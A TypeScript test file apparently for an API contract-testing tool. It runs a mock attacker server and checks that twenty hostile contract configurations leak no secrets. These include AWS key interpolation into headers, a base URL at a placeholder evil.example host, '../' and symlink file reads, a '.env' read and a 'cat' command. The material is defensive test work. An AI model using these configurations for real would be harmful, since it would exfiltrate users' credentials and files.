import { spawn, spawnSync } from 'node:child_process';
import { createServer, type IncomingHttpHeaders } from 'node:http';
import type { AddressInfo } from 'node:net';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { checks, loadContract, runContract } from '../index.js';
import { EFFORT } from '../selftest/fixtures/amount.js';
import { notes } from './fixtures/notes.js';
import { send } from './fixtures/serving.js';

const AWS = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY';
const TOKEN = 'tok_live_4F9a8B7c6D5e4F3a2B1c';
const TENANT = 'Tenant-zX81kQ-north';
const FILE = 'fil_Q9w8E7r6T5y4U3i2O1p0';

/** What an author may be after. */
const VALUES = { AWS, TOKEN, TENANT, FILE };
const ENVIRONMENT = { AWS_SECRET_ACCESS_KEY: AWS, PROBITY_TOKEN: TOKEN, PROBITY_TENANT: TENANT };

interface Asked {
  readonly host: string;
  readonly text: string;
}

/** A service of the author: it takes the token, repeats what it was sent in every way, and leads elsewhere. */
class Attacker {
  readonly asked: Asked[] = [];
  readonly #service = notes();
  readonly #server = createServer((request, response) => {
    const chunks: Buffer[] = [];
    request.on('data', (chunk: Buffer) => chunks.push(chunk));
    request.on('end', () => {
      const { method = 'GET', headers, url = '/' } = request;
      const body = Buffer.concat(chunks).toString();
      this.asked.push({ host: headers.host ?? '', text: `${method} ${url} ${JSON.stringify(headers)} ${body}` });
      const { pathname, searchParams } = new URL(url.replace(`/${TENANT}`, ''), 'http://a');
      const asked = { method, path: pathname, query: searchParams, headers, body };
      const right = this.#service.answer(asked);
      const value = right.body === '' ? undefined : (JSON.parse(right.body) as Readonly<Record<string, unknown>>);
      const told = { ...right.headers, ...this.#echoes(headers, url) };
      if (asked.method === 'GET' && this.leads === 'redirect') {
        response.writeHead(307, { Location: `${this.elsewhere}${url}` }).end();
        return;
      }
      const away = this.leads === 'links' && value !== undefined && 'next' in value;
      const more = {
        ...value,
        echo: this.#echoes(headers, url),
        ...(away ? { next: `${this.elsewhere}/notes?after=1` } : {}),
      };
      send({ response, asked }, { ...right, headers: told, body: value === undefined ? '' : JSON.stringify(more) });
    });
  });
  leads: 'nowhere' | 'redirect' | 'links' = 'nowhere';

  constructor() {
    this.#service.tokens.add(TOKEN);
  }

  listen(): Promise<void> {
    return new Promise((resolve) => this.#server.listen(0, '0.0.0.0', resolve));
  }

  close(): void {
    this.#server.closeAllConnections();
    this.#server.close();
  }

  get port(): number {
    return (this.#server.address() as AddressInfo).port;
  }

  /** This machine, which needs no permission. */
  get here(): string {
    return `http://127.0.0.1:${String(this.port)}`;
  }

  /** The same server under the name of a host that nobody has allowed. */
  get elsewhere(): string {
    return `http://0.0.0.0:${String(this.port)}`;
  }

  #echoes(
    { authorization = '', 'x-tenant': tenant = '' }: IncomingHttpHeaders,
    url: string,
  ): Readonly<Record<string, string>> {
    const all = `${authorization} ${String(tenant)} ${url}`.slice(0, 200);
    const base64 = Buffer.from(authorization).toString('base64');
    const cut = [authorization.slice(7, 19), authorization.slice(-9), String(tenant).slice(2, 12)].join(' ');
    return {
      'X-All': all,
      'X-Upper': all.toUpperCase(),
      'X-Lower': all.toLowerCase(),
      'X-Base64': base64,
      'X-Cut': cut,
    };
  }
}

const attacker = new Attacker();
let folder = '';
let outside = '';
beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'probity-authors-'));
  outside = join(folder, 'outside.secret');
  writeFileSync(outside, FILE);
  writeFileSync(join(folder, 'schema.json'), JSON.stringify({ type: 'object', description: FILE }));
  await attacker.listen();
});
afterAll(() => {
  attacker.close();
  rmSync(folder, { recursive: true, force: true });
});

const BASE = readFileSync('src/hostile/fixtures/notes.yaml', 'utf8').replace('${NOTES_TOKEN}', '${PROBITY_TOKEN}');

type Change = (text: string) => string;
const url =
  (to: () => string): Change =>
  (text) =>
    text.replace('${NOTES_URL}', to);
const here = url(() => attacker.here);
const token =
  (reference: string | (() => string)): Change =>
  (text) =>
    here(text).replace("'${PROBITY_TOKEN}'", typeof reference === 'string' ? () => reference : reference);
const header =
  (value: string): Change =>
  (text) =>
    here(text).replace('timeout: 10s', () => `timeout: 10s\n  headers: { X-Tenant: '${value}' }`);

/** Contracts that want what nobody has allowed: nothing is sent for them. */
const REFUSED: Readonly<Record<string, Change>> = {
  'a variable as token': token("'${AWS_SECRET_ACCESS_KEY}'"),
  'a variable in a header': header('${AWS_SECRET_ACCESS_KEY}'),
  'a variable with a default': header('${AWS_SECRET_ACCESS_KEY:-none}'),
  'a variable inside a header': header('tenant-${AWS_SECRET_ACCESS_KEY}-north'),
  'a variable in the path of the base URL': url(() => `${attacker.here}/\${AWS_SECRET_ACCESS_KEY}`),
  'a variable in the host of the base URL': url(() => 'http://${PROBITY_TENANT}.evil.example'),
  'a base URL elsewhere': url(() => attacker.elsewhere),
  'another host of the service': (text) =>
    here(text).replace('timeout: 10s', () => `timeout: 10s\n  hosts: { more: '${attacker.elsewhere}' }`),
  'a file by its whole path': token(() => `{ file: ${outside} }`),
  'a file above the folder': token('{ file: ../outside.secret }'),
  'a file behind a link': token('{ file: ./linked }'),
  'a hidden file': token('{ file: ./.env }'),
  'a token URL elsewhere': token(
    () =>
      `{ token-url: '${attacker.elsewhere}/token', client-id: probity, client-secret: '\${PROBITY_TOKEN}', scope: a }`,
  ),
  'a variable as client secret': token(
    () =>
      `{ token-url: '${attacker.here}/token', client-id: me, client-secret: '\${AWS_SECRET_ACCESS_KEY}', scope: a }`,
  ),
  'a variable as client id': token(
    () =>
      `{ token-url: '${attacker.here}/token', client-id: '\${AWS_SECRET_ACCESS_KEY}', client-secret: '\${PROBITY_TOKEN}', scope: a }`,
  ),
  'a schema outside of the folder': (text) =>
    here(text).replace(/schema:\n {6}type: object/, 'schema: { $ref: ../schema.json }\n    x:\n      type: object'),
};

/** Contracts that may use what they name, of a service that gives it away again. */
const RUN: Readonly<Record<string, readonly [change: Change, leads: Attacker['leads']]>> = {
  'a service that repeats the token': [here, 'nowhere'],
  'a service that repeats a header and the base URL': [
    (text) => header('${PROBITY_TENANT}')(text.replace('${NOTES_URL}', () => `${attacker.here}/\${PROBITY_TENANT}`)),
    'nowhere',
  ],
  // Without the word of the operator no command is run: the caller has no credential then.
  'what a command prints': [token(() => `{ command: cat ${outside} }`), 'nowhere'],
  'redirects elsewhere': [here, 'redirect'],
  'links that lead elsewhere': [here, 'links'],
};

interface Said {
  readonly code: number | null;
  /** On the terminal, and in every file that was written. */
  readonly text: string;
  readonly report: string;
}

function run(name: string, change: Change): Promise<Said> {
  const home = homeOf(change);
  const out = join(home, 'reports');
  const only = ['cursor-walk-is-a-partition', 'post-creates', 'missing-credentials-are-refused'].flatMap((check) => [
    '--only',
    check,
  ]);
  const formats = 'html,junit-rich,markdown,sarif,ctrf,tap,har,json,annotations';
  const args = [
    'run',
    join(home, 'contract.yaml'),
    '--out',
    out,
    '--seed',
    '1',
    '--effort',
    EFFORT,
    ...only,
    '--report',
    formats,
  ];
  const child = spawn(process.execPath, ['dist/src/cli/main.js', ...args], {
    env: { PATH: process.env['PATH'] ?? '', HOME: home, ...ENVIRONMENT },
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  let said = '';
  for (const stream of [child.stdout, child.stderr]) stream.on('data', (chunk: Buffer) => (said += chunk.toString()));
  return new Promise((resolve) => {
    child.once('close', (code) => {
      resolve({ code, text: `${name}: ${said}`, report: writtenIn(out) });
    });
  });
}

/** The same without a process of its own, as the command does it. */
async function refusedHere(name: string, change: Change): Promise<Said> {
  const home = homeOf(change);
  const loaded = loadContract(join(home, 'contract.yaml'), { allowFiles: [] });
  if ('problems' in loaded)
    return { code: 2, text: `${name}: ${loaded.problems.map(({ message }) => message).join()}`, report: '' };
  let report = '';
  const result = await runContract({
    contract: loaded.contract,
    checks,
    environment: ENVIRONMENT,
    folder: home,
    trust: {},
    write: (text) => (report += text),
  });
  const text = 'problem' in result ? `${result.problem} ${result.hint}` : 'it ran';
  return { code: 'problem' in result ? 2 : 0, text: `${name}: ${text}`, report };
}

function homeOf(change: Change): string {
  const home = mkdtempSync(join(folder, 'contract-'));
  symlinkSync(outside, join(home, 'linked'));
  writeFileSync(join(home, '.env'), FILE);
  writeFileSync(join(home, 'contract.yaml'), change(BASE));
  return home;
}

function writtenIn(path: string): string {
  mkdirSync(path, { recursive: true });
  return readdirSync(path, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => readFileSync(join(entry.parentPath, entry.name), 'utf8'))
    .join('\n');
}

/** Values, and stretches of eight characters of them, that stand in a text in any case. */
function found(text: string, values: readonly string[] = Object.values(VALUES)): readonly string[] {
  const low = text.toLowerCase();
  return values.flatMap((value) => {
    const parts = Array.from({ length: value.length - 7 }, (_, at) => value.slice(at, at + 8));
    const base64 = Buffer.from(value).toString('base64').slice(0, 12);
    return [...parts.filter((part) => low.includes(part.toLowerCase())), ...(text.includes(base64) ? [base64] : [])];
  });
}

it('twenty contracts of authors who mean harm get nothing of the machine', { timeout: 120_000 }, async () => {
  const all: (readonly [name: string, said: Said])[] = [];
  for (const [name, change] of Object.entries(REFUSED)) {
    // To start a process takes longest: of these, a few show that the command says no more than its library.
    const isCommand = all.length % 9 === 0;
    all.push([name, isCommand ? await run(name, change) : await refusedHere(name, change)]);
  }
  expect(all.flatMap(([name, { code, text }]) => (code === 2 ? [] : [`${name}: ${String(code)} ${text}`]))).toEqual([]);
  expect(attacker.asked).toEqual([]);
  for (const [name, [change, leads]] of Object.entries(RUN)) {
    attacker.leads = leads;
    const said = await run(name, change);
    expect(said.code, said.text).not.toBe(2);
    expect(said.code, said.text).not.toBe(4);
    expect(said.report.length, name).toBeGreaterThan(10_000);
    all.push([name, said]);
  }
  expect(all.length).toBeGreaterThanOrEqual(20);
  expect(all.flatMap(([name, { text, report }]) => found(text + report).map((one) => `${name}: ${one}`))).toEqual([]);
  // It did come where it was allowed, and nowhere else, and what was not allowed came nowhere.
  const [mine, others] = [true, false].map((is) =>
    attacker.asked.filter(({ host }) => host.startsWith('127.0.0.1') === is),
  );
  expect(found(mine?.map(({ text }) => text).join('\n') ?? '', [TOKEN, TENANT]).length).toBeGreaterThan(10);
  expect(found(mine?.map(({ text }) => text).join('\n') ?? '', [AWS, FILE])).toEqual([]);
  expect(others?.flatMap(({ text }) => found(text))).toEqual([]);
});

const python = spawnSync('python3', ['-c', 'import pty'], { stdio: 'ignore' }).status === 0;

it.skipIf(!python)(
  'on a terminal the operator is asked once, and a no sends nothing (needs python3 with pty)',
  async () => {
    const home = mkdtempSync(join(folder, 'asked-'));
    const file = join(home, 'contract.yaml');
    writeFileSync(file, token("'${AWS_SECRET_ACCESS_KEY}'")(BASE));
    const before = attacker.asked.length;
    // The second argument is the answer, which is typed when the question stands there.
    const script = `
import os, pty, sys
answer = sys.argv[1].encode()
seen = b''
def read(fd):
    global seen, answer
    data = os.read(fd, 4096)
    seen += data
    if answer and b'N for no' in seen:
        os.write(fd, answer + b'\\n')
        answer = b''
    return data
code = pty.spawn(sys.argv[2:], read)
sys.exit(os.waitstatus_to_exitcode(code))
`;
    const command = [
      process.execPath,
      'dist/src/cli/main.js',
      'run',
      file,
      '--out',
      join(home, 'out'),
      '--only',
      'post-creates',
    ];
    const child = spawn('python3', ['-c', script, 'n', ...command], {
      env: { PATH: process.env['PATH'] ?? '', HOME: home, TERM: 'xterm', ...ENVIRONMENT },
      stdio: ['pipe', 'pipe', 'pipe'],
      timeout: 30_000,
    });
    let said = '';
    for (const stream of [child.stdout, child.stderr]) stream.on('data', (chunk: Buffer) => (said += chunk.toString()));
    const code = await new Promise((resolve) => child.once('close', resolve));
    expect(said).toContain('AWS_SECRET_ACCESS_KEY');
    expect(code, said).toBe(2);
    expect(found(said)).toEqual([]);
    expect(attacker.asked.length).toBe(before);
  },
);
